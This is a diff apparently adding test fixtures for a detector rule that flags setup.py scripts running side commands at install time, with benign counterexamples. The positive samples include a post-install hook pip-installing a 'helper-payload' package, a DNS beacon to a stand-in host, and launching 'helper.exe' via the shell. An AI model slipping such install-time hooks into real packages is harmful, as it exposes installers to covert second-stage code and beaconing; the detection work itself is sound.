@@ -148,6 +148,50 @@ class CMakeBuild(build_ext):
 setup(name="fast", ext_modules=[Extension("fast._core", [])], cmdclass={"build_ext": CMakeBuild})
 """
 
+SETUP_PIP_SECOND_STAGE = """\
+import subprocess
+import sys
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        subprocess.check_call([sys.executable, "-m", "pip", "install", "helper-payload"])
+
+
+setup(name="pkg", version="1.0", cmdclass={"install": PostInstall})
+"""
+
+SETUP_DNS_BEACON = """\
+import subprocess
+from setuptools import setup
+
+subprocess.getoutput("dig @1.1.1.1 install.beacon.example.invalid")
+setup(name="pkg", version="1.0")
+"""
+
+SETUP_START_PROGRAM = """\
+from subprocess import run
+from setuptools import setup
+
+run(["start", "helper.exe"], shell=True)
+setup(name="pkg", version="1.0")
+"""
+
+SETUP_NUMPY_INCLUDE = """\
+import subprocess
+import sys
+from setuptools import Extension, setup
+
+include = subprocess.check_output(
+    [sys.executable, "-c", "import numpy; print(numpy.get_include())"], text=True
+).strip()
+subprocess.call(["echo", "to develop, run pip install -e . instead"])
+setup(name="pkg", version="1.0", ext_modules=[Extension("pkg._c", ["c.c"], include_dirs=[include])])
+"""
+
 SETUP_GIT_DESCRIBE = """\
 import subprocess
 from setuptools import setup
@@ -460,6 +504,18 @@ FIXTURES: dict[str, RuleFixtures] = {
             setup_py(SETUP_GIT_DESCRIBE),
             setup_py(SETUP_GIT_CLONE),
             setup_py(SETUP_UNCALLED_REQUESTS),
+        ],
+    ),
+    "setup-install-side-command": RuleFixtures(
+        positive=[
+            setup_py(SETUP_PIP_SECOND_STAGE),
+            setup_py(SETUP_DNS_BEACON),
+            setup_py(SETUP_START_PROGRAM),
+        ],
+        benign=[
+            setup_py(SETUP_NUMPY_INCLUDE),
+            setup_py(SETUP_BUILD_EXT_CMAKE),
+            setup_py(SETUP_GIT_DESCRIBE),
         ],
     ),
     "setup-install-decode-exec": RuleFixtures(
